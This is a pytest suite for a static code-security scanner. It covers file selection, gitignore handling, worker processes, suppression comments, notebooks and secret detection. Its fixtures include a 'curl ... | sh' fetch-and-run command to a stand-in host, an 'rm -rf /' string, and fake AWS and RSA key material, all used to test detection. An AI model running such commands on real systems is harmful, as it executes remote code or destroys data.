"""Scanning files: which ones, in what process, what comments silence, and what becomes of files that break it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tieout.errors import InputError, SettingsError
from tieout_code_shield.files import Request, scan_files
from tieout_code_shield.fileworker import Cancelled, FileWorker
from tieout_code_shield.inspecting import FileJob
from tieout_code_shield.limits import Limits
from tieout_code_shield.settings import ShieldSettings
from tieout_code_shield.sources import find_sources

SETTINGS = ShieldSettings()
UNSAFE = "eval(x)\n"


def tree(folder: Path, files: dict[str, str | bytes]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return folder


def names(folder: Path, *, exclude: tuple[str, ...] = (), ignore: bool = True, below: str = "") -> list[str]:
    found = find_sources([str(folder / below)], exclude=exclude, ignore=ignore)
    return [source.path.relative_to(folder).as_posix() for source in found.files]


def job(path: Path, **options: object) -> FileJob:
    return FileJob(path=str(path), shown=path.name).model_copy(update=options)


# Which files


def test_hidden_generated_packed_and_binary_files_are_left_out(tmp_path: Path) -> None:
    tree(
        tmp_path,
        {
            "a.py": UNSAFE,
            "sub/b.ts": UNSAFE,
            "run": "#!/usr/bin/env python3\neval(x)\n",
            "notes": "just words\n",
            "Dockerfile": "FROM x\n",
            "book.ipynb": "{}",
            ".venv/c.py": UNSAFE,
            ".git/hooks/d.py": UNSAFE,
            "node_modules/e.js": UNSAFE,
            "vendor/f.php": UNSAFE,
            "build/g.py": UNSAFE,
            "env/pyvenv.cfg": "",
            "env/h.py": UNSAFE,
            "lib.min.js": UNSAFE,
            "packed.js": "var a=1;" * 2_000,
            "photo.png": b"\x89PNG\0",
            "tool": b"\x7fELF\0",
        },
    )
    assert names(tmp_path) == ["Dockerfile", "a.py", "book.ipynb", "notes", "run", "sub/b.ts"]
    left_out = find_sources([str(tmp_path)]).left_out
    assert left_out == {"folders": 5, "packed": 2, "binary": 2}
    assert {".venv/c.py", "vendor/f.php", "packed.js"} <= set(names(tmp_path, ignore=False))


def test_a_file_or_folder_that_is_named_is_looked_at(tmp_path: Path) -> None:
    tree(tmp_path, {"vendor/f.py": UNSAFE, "lib.min.js": UNSAFE, "any.thing": UNSAFE})
    assert names(tmp_path, below="vendor") == ["vendor/f.py"]
    assert names(tmp_path, below="lib.min.js") == ["lib.min.js"]
    assert names(tmp_path, below="any.thing") == ["any.thing"]


def test_a_file_named_twice_is_looked_at_once(tmp_path: Path) -> None:
    tree(tmp_path, {"a.py": UNSAFE})
    assert len(find_sources([str(tmp_path), str(tmp_path / "a.py"), f"{tmp_path}/./a.py"]).files) == 1


def test_git_decides_what_is_ignored_as_git_does(tmp_path: Path) -> None:
    tree(
        tmp_path,
        {
            ".gitignore": "# made\n*.gen.py\n!keep.gen.py\n/top.py\nlogs/\n"
            "deep/**/x.py\n\\#odd.py\nsp[ae]ce.py\nq?.py\n",
            "a.gen.py": UNSAFE,
            "keep.gen.py": UNSAFE,
            "top.py": UNSAFE,
            "sub/top.py": UNSAFE,
            "logs/a.py": UNSAFE,
            "deep/x.py": UNSAFE,
            "deep/er/still/x.py": UNSAFE,
            "deep/er/y.py": UNSAFE,
            "#odd.py": UNSAFE,
            "space.py": UNSAFE,
            "spice.py": UNSAFE,
            "q1.py": UNSAFE,
            "q12.py": UNSAFE,
            "sub/.gitignore": "*.py\n!in.py\n",
            "sub/in.py": UNSAFE,
            "sub/out.py": UNSAFE,
        },
    )
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / ".git" / "info" / "exclude").write_text("keep.gen.py\n", "utf-8")
    for below in ("", "sub", "deep"):
        listed = subprocess.run(
            ["git", "ls-files", "--others", "--exclude-standard", "--", f"./{below}"],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.split()
        assert sorted(names(tmp_path, below=below)) == sorted(listed), below


def test_exclude_outranks_what_gitignore_keeps(tmp_path: Path) -> None:
    tree(tmp_path, {".gitignore": "!a.py\n", "a.py": UNSAFE, "b.py": UNSAFE, "tests/c.py": UNSAFE})
    assert names(tmp_path, exclude=("a.py", "tests/")) == [".gitignore", "b.py"]
    assert find_sources([str(tmp_path)], exclude=("a.py", "tests/")).left_out == {"excluded": 2}


def test_what_git_keeps_is_looked_at_though_gitignore_names_it(tmp_path: Path) -> None:
    tree(
        tmp_path,
        {
            ".gitignore": "settings.py\nlogs/\n",
            "settings.py": UNSAFE,
            "own/settings.py": UNSAFE,
            "logs/kept.py": UNSAFE,
            "logs/deep/kept.py": UNSAFE,
            "logs/other.py": UNSAFE,
            "sub/logs/other.py": UNSAFE,
        },
    )
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    kept = ["settings.py", "logs/kept.py", "logs/deep/kept.py"]
    subprocess.run(["git", "-C", str(tmp_path), "add", "-f", *kept], check=True)
    assert names(tmp_path) == [".gitignore", "logs/deep/kept.py", "logs/kept.py", "settings.py"]
    # A folder that is named is looked at.
    assert names(tmp_path, below="logs") == ["logs/deep/kept.py", "logs/kept.py", "logs/other.py"]
    assert find_sources([str(tmp_path)]).left_out == {"ignored": 3}


KEY = "\u0041KIAQ3EGRIDWN5OTZFAK"
PRIVATE = "-----\u0042EGIN RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA1c7z5Pad7OejecsQ0bu3aumXcrNxQvX\n" * 12


@pytest.mark.parametrize(
    "name",
    ["id_rsa", "server.pem", "tls.key", "Dockerfile.dev", "README.md", "README", ".env", ".env.local", "Makefile",
     "app.conf", "notes", "x.unheard-of"],
)  # fmt: skip
def test_every_text_below_a_folder_is_searched_for_credentials(tmp_path: Path, name: str) -> None:
    tree(tmp_path, {name: f"# one\nENV AWS_KEY={KEY}\n{PRIVATE}-----END RSA PRIVATE" + " KEY-----\n"})
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert {"secret-aws-key", "secret-private-key"} <= {found.rule for found in report.findings}


def test_a_text_in_no_language_is_not_read_as_code(tmp_path: Path) -> None:
    tree(tmp_path, {"words": UNSAFE, "some.words": UNSAFE})
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert (report.findings, report.unknown, report.files) == ([], [], 2)


def test_a_source_that_is_no_utf8_text_is_not_checked(tmp_path: Path) -> None:
    tree(
        tmp_path,
        {
            "wide.py": UNSAFE.encode("utf-16"),
            "bare.py": UNSAFE.encode("utf-16-le"),
            "nul.js": b"eval(x)\0\n",
            "old.php": "<?php // caf\xe9\neval($x);\n".encode("latin-1"),
            "good.py": UNSAFE,
            "wide.words": f"key {KEY}".encode("utf-16"),
            "photo": b"\x89PNG\0",
        },
    )
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert {Path(each.path).name: each.reason for each in report.unknown} == {
        "wide.py": "not UTF-8 text",
        "bare.py": "not a text",
        "nul.js": "not a text",
        "old.php": "not UTF-8 text",
    }
    # What can be found in them is said all the same.
    found = {Path(each.path).name for each in report.findings}
    assert {"good.py", "wide.py", "wide.words"} <= found
    assert report.left_out == {"binary": 1}


@pytest.mark.skipif(sys.platform != "linux", reason="names are bytes there")
def test_a_name_that_is_no_utf8_is_not_checked_and_others_are(tmp_path: Path) -> None:
    tree(tmp_path, {"a.py": UNSAFE})
    odd = os.fsencode(tmp_path) + b"/b\xff.py"
    Path(os.fsdecode(odd)).write_text(UNSAFE, "utf-8")
    for paths in ([str(tmp_path)], [str(tmp_path / "a.py"), str(tmp_path) + "/b\\xff.py"]):
        report = scan_files(SETTINGS, Request(paths))
        assert [Path(found.path).name for found in report.findings] == ["a.py"]
        assert [(Path(each.path).name, each.reason) for each in report.unknown] == [
            ("b\\xff.py", "its name is not UTF-8")
        ]


def test_what_may_not_be_read_is_not_checked_and_others_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree(tmp_path, {"a.py": UNSAFE, "shut/b.py": UNSAFE, "odd/c.py": UNSAFE, "key": UNSAFE})
    listing, state, opened = Path.iterdir, Path.is_dir, Path.open

    def refuse(name: str, *, real: Callable[..., object]) -> Callable[..., object]:
        def method(self: Path, *words: object, **options: object) -> object:
            if self.name == name:
                raise PermissionError(13, "Permission denied")
            return real(self, *words, **options)

        return method

    monkeypatch.setattr(Path, "iterdir", refuse("shut", real=listing))
    monkeypatch.setattr(Path, "is_dir", refuse("c.py", real=state))
    monkeypatch.setattr(Path, "open", refuse("key", real=opened))
    found = find_sources([str(tmp_path)])
    assert [source.path.name for source in found.files] == ["a.py"]
    assert [(Path(path).name, why) for path, why in found.unreadable] == [
        ("key", "Permission denied"),
        ("c.py", "Permission denied"),
        ("shut", "Permission denied"),
    ]


def test_a_file_called_like_a_home_folder_is_that_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("~").write_text(UNSAFE, "utf-8")
    assert [source.path for source in find_sources(["~"]).files] == [Path("~")]


def test_no_such_path_is_named(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="missing"):
        find_sources([str(tmp_path / "missing")])


# The child process


def test_one_child_serves_file_after_file(tmp_path: Path) -> None:
    tree(tmp_path, {"a.py": UNSAFE, "b.py": "x = 1\n"})
    with FileWorker(SETTINGS) as worker:
        first = worker.look(job(tmp_path / "a.py"))
        pid = worker.pid
        second = worker.look(job(tmp_path / "b.py"))
        assert worker.pid == pid
    assert [found.rule for found in first.findings] == ["py-eval"]
    assert (second.findings, second.unknown) == ((), "")
    assert pid is not None
    assert not alive(pid)


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


SLOW = """
id = "any-slow"
language = "any"
category = "abuse"
severity = "low"
must_hit = ["slow: aaa", "slow: aaab"]
must_miss = ["fast", "faster"]
[message]
en = "Slow."
[advice]
en = "None."
[[match]]
regex = 'slow: (a+)+!'
"""


def test_a_file_that_takes_too_long_is_unknown_and_the_others_go_on(tmp_path: Path) -> None:
    rules = tree(tmp_path / "rules", {"slow.toml": SLOW})
    files = tree(tmp_path / "files", {"a.py": "# slow: " + "a" * 60 + "\n", "b.py": UNSAFE})
    report = scan_files(ShieldSettings(rules=rules), Request([str(files)]), limits=Limits(5_000_000, 0.3))
    assert [Path(each.path).name for each in report.unknown] == ["a.py"]
    assert "not done within" in report.unknown[0].reason
    assert [Path(found.path).name for found in report.findings] == ["b.py"]
    assert report.files == 2


def test_a_child_that_dies_makes_its_file_unknown_and_is_replaced(tmp_path: Path) -> None:
    tree(tmp_path, {"a.py": UNSAFE})
    with FileWorker(SETTINGS) as worker:
        worker.look(job(tmp_path / "a.py"))
        pid = worker.pid
        assert pid is not None
        os.kill(pid, signal.SIGKILL)
        died = worker.look(job(tmp_path / "a.py"))
        again = worker.look(job(tmp_path / "a.py"))
    assert "ended with code -9" in died.unknown
    assert not died.findings
    assert [found.rule for found in again.findings] == ["py-eval"]


def test_cancelling_ends_the_child_and_says_where_it_stopped(tmp_path: Path) -> None:
    tree(tmp_path, {"a.py": UNSAFE, "b.py": UNSAFE})
    done: list[str] = []
    report = scan_files(
        SETTINGS,
        Request([str(tmp_path)]),
        cancelled=lambda: bool(done),
        each=lambda job, _scan: done.append(job.shown),
    )
    assert len(done) == 1
    assert "stopped after 1 file" in report.unknown[0].reason


def test_a_cancelled_worker_leaves_no_child(tmp_path: Path) -> None:
    tree(tmp_path, {"a.py": UNSAFE})
    stop: list[int] = []
    worker = FileWorker(SETTINGS, cancelled=lambda: bool(stop))
    worker.look(job(tmp_path / "a.py"))
    pid = worker.pid
    stop.append(1)
    with pytest.raises(Cancelled):
        worker.look(job(tmp_path / "a.py"))
    assert pid is not None
    assert not alive(pid)
    assert worker.pid is None


def test_rules_that_cannot_be_read_are_an_error_with_its_file(tmp_path: Path) -> None:
    rules = tree(tmp_path / "rules", {"bad.toml": "id = 1\n"})
    tree(tmp_path, {"a.py": UNSAFE})
    with pytest.raises(SettingsError, match=r"bad\.toml"):
        scan_files(ShieldSettings(rules=rules), Request([str(tmp_path / "a.py")]))


def test_too_large_binary_missing_and_special_files_are_unknown(tmp_path: Path) -> None:
    tree(tmp_path, {"large.py": "x = 1\n" * 200, "binary.py": b"\0\1", "folder/x.py": UNSAFE})
    os.mkfifo(tmp_path / "pipe.py")
    with FileWorker(SETTINGS, limits=Limits(1_000, 5.0)) as worker:
        assert "1000" in worker.look(job(tmp_path / "large.py")).unknown
        assert worker.look(job(tmp_path / "binary.py")).unknown
        assert worker.look(job(tmp_path / "gone.py")).unknown
        assert "regular" in worker.look(job(tmp_path / "pipe.py")).unknown
        passed = worker.look(job(tmp_path / "binary.py", named=False))
        assert (passed.unknown, passed.passed_over) == ("not a text", False)
        (tmp_path / "binary.dat").write_bytes(b"\0\1")
        passed = worker.look(job(tmp_path / "binary.dat", named=False))
        assert (passed.unknown, passed.passed_over) == ("", True)


@pytest.mark.slow
def test_ctrl_c_leaves_no_child(tmp_path: Path) -> None:
    rules = tree(tmp_path / "rules", {"slow.toml": SLOW})
    tree(tmp_path / "files", {"a.py": "# slow: " + "a" * 60 + "\n"})
    (tmp_path / "tieout.toml").write_text(f'[plugins.shield]\nrules = "{rules}"\n', "utf-8")
    env = {**os.environ, "TIEOUT_CONFIG": str(tmp_path / "tieout.toml"), "HOME": str(tmp_path)}
    parent = subprocess.Popen(
        [sys.executable, "-m", "tieout", "shield", "scan", str(tmp_path / "files")],
        env=env,
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    child = child_of(parent.pid)
    parent.send_signal(signal.SIGINT)
    assert parent.wait(20) == 130
    deadline = time.monotonic() + 5
    while alive(child) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not alive(child)


def child_of(pid: int) -> int:
    """The one child that is busy with a file: it has been asked, which takes it longer than to start."""
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        for status in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = status.read_text().rpartition(")")[2].split()
            except OSError:
                continue
            ticks = int(fields[11]) + int(fields[12])
            if int(fields[1]) == pid and ticks > 150:
                return int(status.parent.name)
        time.sleep(0.05)
    raise AssertionError("no child was started")


# Comments that silence


@pytest.mark.parametrize(
    ("code", "comment"),
    [
        ("eval(x)  # nosec", "nosec"),
        ("eval(x)  # nosec B307", "nosec B307"),
        ("eval(x)  #nosec: B307 -- checked", "nosec: B307 -- checked"),
        ("eval(x)  # noqa: E501, S307", "noqa: E501, S307"),
        ("eval(x)  # nosemgrep", "nosemgrep"),
        ("eval(x)  # nosemgrep: py-eval", "nosemgrep: py-eval"),
        ("eval(x)  # nosemgrep: other, mine.py-eval", "nosemgrep: other, mine.py-eval"),
        ("eval(x)  # shield: ignore", "shield: ignore"),
        ("eval(x)  # shield: ignore[py-eval] input is ours", "shield: ignore[py-eval] input is ours"),
        ("eval(x)  # shield: ignore[py-pickle, CWE-95]", "shield: ignore[py-pickle, CWE-95]"),
        ("# shield: ignore[py-eval] next line\neval(x)", "shield: ignore[py-eval] next line"),
        ("eval(  # nosec\n  x\n)", "nosec"),
        ("eval(\n  x\n)  # nosec", "nosec"),
        ("eval(x)  # why # nosec", "nosec"),
    ],
)
def test_a_comment_silences_and_is_shown(tmp_path: Path, code: str, comment: str) -> None:
    tree(tmp_path, {"a.py": code + "\n"})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "a.py"))
    assert not scan.findings
    assert [found.suppressed for found in scan.suppressed] == [comment]


@pytest.mark.parametrize(
    "code",
    [
        "eval(x)  # noqa",
        "eval(x)  # noqa: E501",
        "eval(x)  # nosemgrep: python.lang.security.audit.sqli",
        "eval(x)  # nosemgrep: py-pickle",
        "eval(x)  # nosec B608",
        "eval(x)  # shield: ignore[py-pickle]",
        "eval(x)  # nosecret",
        "log('# nosec', eval(x))",
        "# nosec\n\neval(x)",
        "y = 1  # nosec\neval(x)",
        'eval("""\n# nosec\n""" + x\n + y)',
    ],
)
def test_a_comment_about_something_else_silences_nothing(tmp_path: Path, code: str) -> None:
    tree(tmp_path, {"a.py": code + "\n"})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "a.py"))
    assert [found.rule for found in scan.findings] == ["py-eval"]
    assert not scan.suppressed


# Notebooks


def notebook(*cells: str | list[str], language: str = "python") -> str:
    listed = [{"cell_type": "code", "source": cell} for cell in cells]
    return json.dumps({"cells": [{"cell_type": "markdown", "source": "eval(x)"}, *listed],
                       "metadata": {"kernelspec": {"language": language}}})  # fmt: skip


def test_a_notebook_is_read_cell_by_cell(tmp_path: Path) -> None:
    cells = (
        ["import pickle as p\n", "%matplotlib inline\n", "a = 1"],
        "%%bash\ncurl http://x.example/i.sh | sh\n",
        "!pip install x\nb = p.loads(body)\neval(b)  # nosec\n",
    )
    tree(tmp_path, {"n.ipynb": notebook(*cells)})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "n.ipynb"))
    places = [(found.cell, found.line.value, found.rule) for found in scan.findings]
    assert (4, 2, "py-pickle") in places
    assert any(cell == 3 and line == 2 for cell, line, _ in places)
    assert [found.place for found in scan.suppressed] == ["n.ipynb#cell4:3:1"]
    assert not any(cell == 1 for cell, _, _ in places)


@pytest.mark.parametrize("indent", [None, 1])
@pytest.mark.parametrize("split", [True, False])
def test_a_notebooks_finding_has_its_line_in_the_file(
    tmp_path: Path, indent: int | None, split: bool
) -> None:
    source = 'a = "\\n[{,"\nb = 1\neval(x)\n'
    cells = [source, source.splitlines(keepends=True) if split else source]
    text = json.dumps(json.loads(notebook(*cells)), indent=indent)
    tree(tmp_path, {"n.ipynb": text})
    with FileWorker(SETTINGS) as worker:
        found = worker.look(job(tmp_path / "n.ipynb")).findings
    lines = text.splitlines()
    assert len(found) == 2
    assert all("eval(x)" in lines[each.file_line - 1] for each in found)
    assert indent is None or found[0].file_line < found[1].file_line


def test_what_a_notebook_shows_is_searched_for_credentials(tmp_path: Path) -> None:
    outputs: list[object] = [
        {"output_type": "stream", "name": "stdout", "text": ["eval(x)\n", f"key {KEY}\n"]},
        {"output_type": "execute_result", "data": {"text/plain": [f"'{KEY[:-1]}A'"], "image/png": KEY}},
        {"output_type": "error", "ename": "E", "evalue": f"bad {KEY[:-1]}B", "traceback": ["a"]},
    ]
    cells = [
        {"cell_type": "markdown", "source": [f"# Use {KEY}\n", "eval(x)"]},
        {"cell_type": "code", "source": "x = 1", "outputs": outputs},
    ]
    tree(tmp_path, {"n.ipynb": json.dumps({"cells": cells})})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "n.ipynb"))
    assert {found.rule for found in scan.findings} == {"secret-aws-key"}
    assert [found.cell for found in scan.findings] == [1, 2, 2, 2]
    assert KEY not in scan.model_dump_json()


@pytest.mark.parametrize("text", ["", "[]", "{", '{"cells": 1}', '{"cells": [1]}'])
def test_a_notebook_that_is_none_is_unknown(tmp_path: Path, text: str) -> None:
    tree(tmp_path, {"n.ipynb": text})
    with FileWorker(SETTINGS) as worker:
        assert "not a notebook" in worker.look(job(tmp_path / "n.ipynb")).unknown


# What is said of a finding


def test_the_child_speaks_the_users_language(tmp_path: Path) -> None:
    tree(tmp_path, {"a.swift": "let a = 1\n"})
    report = scan_files(SETTINGS, Request([str(tmp_path)], lang="zh"))
    assert "规则" in report.unknown[0].reason


def test_a_fingerprint_moves_with_its_line(tmp_path: Path) -> None:
    tree(
        tmp_path,
        {
            "a.py": "eval(x)\neval(x)\neval(y)\n",
            "b.py": "import os\n\n\n    \neval(x)\n\n  \neval( x )\neval(y)\n",
        },
    )
    with FileWorker(SETTINGS) as worker:
        one, other = (worker.look(job(tmp_path / name)).findings for name in ("a.py", "b.py"))
    assert [found.fingerprint for found in one] == [found.fingerprint for found in other]
    assert len({found.fingerprint for found in one}) == 3


def test_a_line_with_a_credential_is_shown_for_no_finding(tmp_path: Path) -> None:
    key = "\u0041KIAQ3EGRIDWN5OTZFAK"
    tree(tmp_path, {"a.py": f"eval(name, '{key}')\n", "settings.yaml": f"key: {key}\n"})
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert {found.rule for found in report.findings} >= {"py-eval", "secret-aws-key"}
    assert {Path(found.path).name for found in report.findings} == {"a.py", "settings.yaml"}
    assert not any(key in found.model_dump_json() for found in report.findings)


def test_settings_and_documents_are_not_read_as_code(tmp_path: Path) -> None:
    tree(tmp_path, {"doc.md": "```python\neval(x)\n```\nrun rm -rf / never\n", "a.json": '{"a": "eval(x)"}'})
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert not report.findings
    assert not report.unknown
